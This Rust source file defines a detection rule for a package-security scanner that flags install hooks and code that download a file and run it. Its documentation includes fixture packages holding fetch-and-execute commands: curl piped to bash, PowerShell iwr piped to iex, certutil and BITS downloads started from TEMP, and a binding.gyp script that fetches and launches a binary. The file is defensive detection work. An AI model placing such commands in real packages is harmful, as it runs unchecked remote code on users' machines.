//! # A download is handed to an interpreter
//!
//! A command line fetches something and runs it: piped into a shell or another interpreter, or saved, made
//! executable and started.
//!
//! ## Why it matters
//!
//! What runs is not in the package, is checked by nobody and can be another thing for every visitor.
//!
//! ## Known benign uses
//!
//! Installers that a person starts on purpose. This rule looks at what starts by itself.
//!
//! ## Bad
//!
//! ```package
//! == package.json //~ 1
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "curl -fsSL https://get.invalid/setup.sh | bash"}}
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { exec } = require("child_process");
//! const base = "https://theme.invalid";
//! exec(`curl -o /tmp/.td ${base}/mac && chmod 755 /tmp/.td && /tmp/.td &`); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "sh ./prepare.sh"}}
//! == prepare.sh //~ 1
//! #!/bin/sh
//! (wget -qO /tmp/.gh https://assets.invalid/l || curl -so /tmp/.gh https://assets.invalid/l) 2>/dev/null
//! chmod +x /tmp/.gh && nohup /tmp/.gh >/dev/null 2>&1 &
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { exec } = require("child_process");
//! exec('powershell -NoProfile "iwr https://theme.invalid/s.ps1 -UseBasicParsing | iex"'); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const path = require("path");
//! require("child_process").execFile(path.join(__dirname, "setup.bat"));
//! == setup.bat //~ 1
//! @echo off
//! certutil -urlcache -split -f https://assets.invalid/a.exe %TEMP%\a.exe
//! start "" /b %TEMP%\a.exe
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "powershell -ExecutionPolicy Bypass -File setup.ps1"}}
//! == setup.ps1 //~ 1
//! $target = Join-Path $env:TEMP "a.exe"
//! Start-BitsTransfer -Source https://assets.invalid/a.exe -Destination $target
//! & $target
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0"}
//! == binding.gyp
//! {"targets": [{"target_name": "x", "sources": ["<!(python3 tools/sources.py)"]}]}
//! == tools/sources.py
//! import os, subprocess, tempfile, urllib.request #~ here
//! target = os.path.join(tempfile.gettempdir(), "a")
//! urllib.request.urlretrieve("https://assets.invalid/a", target)
//! os.chmod(target, 0o755)
//! subprocess.Popen([target])
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"install": "node build.js"}}
//! == build.js
//! const isWindows = process.platform === "win32";
//! require("child_process").execFileSync(__dirname + (isWindows ? "/deps/build.bat" : "/deps/build.sh"));
//! == deps/build.bat
//! @echo off
//! cd deps\zlib
//! nmake -f win32\Makefile.msc
//! copy zlib.lib ..\..\build
//! == deps/build.sh
//! #!/bin/bash
//! set -e
//! cd deps/zlib && ./configure --static && make -j4
//! cp libz.a ../../build/
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node banner.js"}}
//! == banner.js
//! console.log("To install: curl -fsSL https://tool.example/install.sh | sh");
//! == index.js
//! exports.help = "curl -fsSL https://tool.example/install.sh | sh";
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"setup": "curl -fsSL https://tool.example/install.sh | sh"}}
//! ```
//!
//! ## References
//!
//! - GitHub Advisory GHSA-pjwm-rvh2-c87w (ua-parser-js, October 2021)

use crate::prelude::*;

/// A download is handed to an interpreter.
pub struct DownloadPipedToInterpreter;

impl Rule for DownloadPipedToInterpreter {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "download-piped-to-interpreter",
            title: "A download is handed to an interpreter",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1105",
            covers: &["curl-pipe-shell", "lifecycle-preinstall", "lifecycle-install", "python-download"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for command in facts.commands() {
            let is_asked_for = matches!(command.origin, CommandOrigin::Script(_) | CommandOrigin::AutoRun);
            let is_build =
                command.trigger == Trigger::Build && matches!(command.origin, CommandOrigin::Call(_));
            if is_asked_for || !(command.trigger.runs_unasked() || is_build) {
                continue;
            }
            for kind in &command.behaviours {
                let BehaviourKind::DownloadAndRun { urls } = kind else { continue };
                let from =
                    urls.first().map(|url| format!(" from `{}`", excerpt(url, 80))).unwrap_or_default();
                found.at(command.trigger, &command.locus, &format!("downloads{from} and runs it"));
            }
        }
    }
}
